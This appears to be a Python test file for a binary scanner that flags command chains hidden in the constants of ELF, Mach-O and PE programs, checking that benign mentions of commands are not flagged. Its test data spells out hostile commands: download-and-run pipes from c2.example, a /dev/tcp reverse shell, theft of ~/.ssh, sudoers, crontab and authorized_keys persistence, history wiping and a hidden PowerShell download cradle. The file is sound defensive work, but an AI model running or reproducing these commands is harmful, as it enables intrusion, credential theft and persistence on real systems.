"""Command lines among the constants of a program: chains are told, messages about commands are not."""

from __future__ import annotations

import pytest

from fimci.readers.binary import native, stated
from tests import growth
from tests.programs import Elf, elf, macho, pe


def told(data: bytes) -> set[str]:
    return {f"{one.name} {one.subject}" for one in native.read("a", data)}


@pytest.mark.parametrize(
    ("text", "chain"),
    [
        (b"curl -s https://c2.example/x | sh", "download-and-run c2.example -> sh"),
        (b"/bin/sh -c 'wget -qO- https://c2.example/x | bash'", "download-and-run c2.example -> bash"),
        (b"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "download-and-run 203.0.113.5:4444 -> bash"),
        (
            b"curl -o %s https://c2.example/x && chmod +x %s && %s",
            "download-and-run c2.example -> executable",
        ),
        (b"tar czf - ~/.ssh | curl -T - https://c2.example/", "exfiltration .ssh -> c2.example"),
        (b"(crontab -l; echo '@reboot %s') | crontab -", "persistence crontab"),
        (b"echo 'left ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "persistence /etc/sudoers"),
        (b"rm -f ~/.bash_history", "obfuscation traces removed"),
        (b"echo '%s' >> ~/.ssh/authorized_keys", "persistence authorized_keys"),
    ],
)
def test_a_chain_among_constants_is_told(text: bytes, chain: str) -> None:
    for program in (elf(Elf(constants=text + b"\0")), macho(constants=text + b"\0")):
        assert chain in told(program)


def test_wide_texts_are_told() -> None:
    text = "powershell -w hidden -c iex(iwr https://c2.example/x)\0\0".encode("utf-16-le")
    assert "download-and-run c2.example -> iex" in told(pe(constants=b"\0" + text))


def test_a_miner_says_so_by_its_options() -> None:
    assert "process miner" in told(elf(Elf(constants=b"randomx/0\0--donate-level=N\0")))
    assert "process miner" not in told(elf(Elf(constants=b"randomx\0level\0")))


@pytest.mark.parametrize(
    "text",
    [
        b"Install it: curl -s https://left.example/x | sh",
        b"usage: left [-h] | sh -c TEXT",
        b"curl -o left.txt https://left.example/left.txt",
        b"could not run curl https://left.example/ | sh",
        b"history -c is not known",
    ],
)
def test_what_a_program_says_about_commands_is_not(text: bytes) -> None:
    chains = ("download-and-run", "exfiltration", "persistence", "obfuscation")
    assert not [one for one in told(elf(Elf(constants=text + b"\0"))) if one.startswith(chains)]


def test_many_commands_cost_no_more_than_they_are_many() -> None:
    growth.is_linear(
        lambda data: list(stated.commands(data)),
        lambda size: b"\0" + b"".join(b"curl -s https://c2.example/%d | sh\0" % n for n in range(size)),
        40,
    )
